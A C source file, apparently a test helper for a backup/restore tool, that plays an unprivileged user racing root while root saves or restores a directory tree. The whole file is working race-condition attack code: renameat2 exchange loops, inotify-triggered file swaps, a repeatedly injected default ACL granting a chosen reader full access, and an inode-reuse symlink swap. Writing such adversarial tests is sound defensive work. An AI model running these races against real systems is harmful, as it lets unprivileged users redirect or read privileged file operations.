/*
 * What a user of a tree does to it while root saves or restores it. Started as root, it becomes the
 * user at once, for good:
 *
 *   attacker UID GID exchange A B [A B]...   exchanges the two names of each pair, again and again
 *   attacker UID GID ambush NAME MINE [...]  exchanges each NAME with MINE as soon as it appears,
 *                                            once, in this order
 *   attacker UID GID steal DIR MINE...       exchanges whatever appears in DIR with the next MINE
 *   attacker UID GID inherit DIR READER      gives DIR a default ACL in which READER may do
 *                                            everything, and takes it away, again and again
 *   attacker UID GID reuse DIR DATA          frees the inode of DATA/z/file when DATA/first is
 *                                            opened, lets root write DIR/file anew, and puts
 *                                            DATA/link, which leads to DIR, in the place of DATA/z
 *
 * It says "ready", works until SIGTERM or the end of its parent, and says how often it succeeded:
 * "acted N". `reuse` keeps one process of root's, which writes DIR/file anew when it is asked to,
 * as passwd(1) does when a user asks it to.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/fs.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#define SPINS 64 /* before an ambush looks whether its name will ever come */

#define STOLEN_MAX 64

static volatile sig_atomic_t ended;
static long acted;

static void end(int sig)
{
    (void)sig;
    ended = 1;
}

static void fail(const char *what)
{
    fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
    exit(1);
}

static void become(uid_t uid, gid_t gid)
{
    if (setgroups(1, &gid) || setresgid(gid, gid, gid) || setresuid(uid, uid, uid))
        fail("become the user");
    prctl(PR_SET_PDEATHSIG, SIGTERM);
}

static void ready(void)
{
    puts("ready");
    fflush(stdout);
}

static int exchange(const char *a, const char *b)
{
    return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void exchanges(char **names, int count)
{
    ready();
    while (!ended)
        for (int i = 0; i + 1 < count; i += 2)
            acted += exchange(names[i], names[i + 1]) == 0;
}

static int exists(const char *name)
{
    return faccessat(AT_FDCWD, name, F_OK, AT_SYMLINK_NOFOLLOW) == 0;
}

static void ambush(char **names, int count)
{
    ready();
    for (int i = 0; i + 1 < count && !ended; i += 2)
        for (long n = 1; !ended; n++) {
            if (exchange(names[i], names[i + 1]) == 0) {
                acted++;
                break;
            }
            /* This one was not restored, or its maker never shows it under its name. */
            if (n % SPINS == 0 && i + 2 < count && exists(names[i + 2]))
                break;
        }
    while (!ended)
        poll(NULL, 0, 10);
}

/* Each name is stolen once: our own exchanges are events, too. */
static int is_new(char names[][NAME_MAX + 1], long count, char **mine, int mine_count,
                  const char *name)
{
    for (long i = 0; i < count; i++)
        if (strcmp(names[i], name) == 0)
            return 0;
    for (int i = 0; i < mine_count; i++)
        if (strcmp(strrchr(mine[i], '/') + 1, name) == 0)
            return 0;
    return 1;
}

static void steal(const char *dir, char **mine, int count)
{
    static char events[4096] __attribute__((aligned(8))), stolen[STOLEN_MAX][NAME_MAX + 1];
    char path[PATH_MAX];
    int watch = inotify_init1(IN_NONBLOCK);
    if (watch < 0 || inotify_add_watch(watch, dir, IN_CREATE | IN_MOVED_TO) < 0)
        fail(dir);
    ready();
    while (!ended) {
        ssize_t n = read(watch, events, sizeof events);
        for (ssize_t at = 0; at < n;) {
            struct inotify_event *event = (struct inotify_event *)(events + at);
            at += (ssize_t)(sizeof *event + event->len);
            if (!event->len || acted >= count || acted >= STOLEN_MAX ||
                !is_new(stolen, acted, mine, count, event->name))
                continue;
            snprintf(path, sizeof path, "%s/%s", dir, event->name);
            snprintf(stolen[acted], sizeof stolen[acted], "%s", event->name);
            acted += exchange(path, mine[acted]) == 0;
        }
    }
}

/* u::rwx u:READER:rwx g::rwx m::rwx o::rwx in the kernel's form: version 2; tag, permissions, id.
 */
static void inherit(const char *dir, uint32_t reader)
{
    struct entry {
        uint16_t tag, permissions;
        uint32_t id;
    };
    struct {
        uint32_t version;
        struct entry entries[5];
    } acl = { 2,
              { { 1, 7, ~0u }, { 2, 7, reader }, { 4, 7, ~0u }, { 16, 7, ~0u }, { 32, 7, ~0u } } };
    ready();
    while (!ended) {
        acted += setxattr(dir, "system.posix_acl_default", &acl, sizeof acl, 0) == 0;
        removexattr(dir, "system.posix_acl_default");
    }
}

static ino_t inode_of(const char *path)
{
    struct stat st;
    return lstat(path, &st) == 0 ? st.st_ino : 0;
}

/* Root's part: writes `dir`/file anew each time it is asked, and answers its inode. */
static void rewrite(const char *dir, int ask, int answer)
{
    char from[PATH_MAX], to[PATH_MAX], c;
    snprintf(from, sizeof from, "%s/file+", dir);
    snprintf(to, sizeof to, "%s/file", dir);
    while (read(ask, &c, 1) == 1) {
        char old[4096];
        int fd = open(to, O_RDONLY);
        ssize_t n = fd < 0 ? -1 : read(fd, old, sizeof old);
        close(fd);
        fd = open(from, O_WRONLY | O_CREAT | O_EXCL, 0600);
        if (n < 0 || fd < 0 || write(fd, old, (size_t)n) != n || rename(from, to))
            fail(from);
        close(fd);
        ino_t inode = inode_of(to);
        if (write(answer, &inode, sizeof inode) != sizeof inode)
            return;
    }
}

static void reuse(const char *data, int ask, int answer)
{
    char events[4096] __attribute__((aligned(8))), name[PATH_MAX];
    int watch = inotify_init1(0);
    if (chdir(data) || watch < 0 || inotify_add_watch(watch, "first", IN_OPEN) < 0)
        fail(data);
    ino_t wanted = inode_of("z/file"), got = 0;
    /* Whatever free inode is lower than ours would be taken first. */
    for (int n = 0; n < 10000; n++) {
        snprintf(name, sizeof name, "../fill/%d.%d", (int)getpid(), n);
        int fd = open(name, O_CREAT | O_WRONLY, 0600);
        if (fd < 0)
            fail(name);
        close(fd);
        if (inode_of(name) > wanted) {
            unlink(name);
            break;
        }
    }
    ready();
    if (read(watch, events, sizeof events) <= 0 || ended)
        return;
    unlink("z/file");
    if (write(ask, "?", 1) != 1 || read(answer, &got, sizeof got) != sizeof got)
        return;
    if (exchange("z", "link") == 0 && got == wanted)
        acted++;
    while (!ended)
        poll(NULL, 0, 10);
}

static void reuse_with_root(const char *dir, const char *data, uid_t uid, gid_t gid)
{
    int ask[2], answer[2];
    if (pipe2(ask, O_CLOEXEC) || pipe2(answer, O_CLOEXEC))
        fail("pipe");
    pid_t helper = fork();
    if (helper == 0) {
        signal(SIGTERM, SIG_IGN);
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        close(ask[1]);
        rewrite(dir, ask[0], answer[1]);
        _exit(0);
    }
    close(ask[0]);
    become(uid, gid);
    reuse(data, ask[1], answer[0]);
}

int main(int count, char **words)
{
    if (count < 5)
        return 2;
    struct sigaction action = { .sa_handler = end };
    sigaction(SIGTERM, &action, NULL);
    uid_t uid = (uid_t)atol(words[1]);
    gid_t gid = (gid_t)atol(words[2]);
    const char *what = words[3];
    if (strcmp(what, "reuse") == 0 && count == 6)
        reuse_with_root(words[4], words[5], uid, gid);
    else
        become(uid, gid);
    if (strcmp(what, "exchange") == 0)
        exchanges(words + 4, count - 4);
    else if (strcmp(what, "ambush") == 0)
        ambush(words + 4, count - 4);
    else if (strcmp(what, "steal") == 0)
        steal(words[4], words + 5, count - 5);
    else if (strcmp(what, "inherit") == 0 && count == 6)
        inherit(words[4], (uint32_t)atol(words[5]));
    else if (strcmp(what, "reuse") != 0)
        return 2;
    printf("acted %ld\n", acted);
    return 0;
}
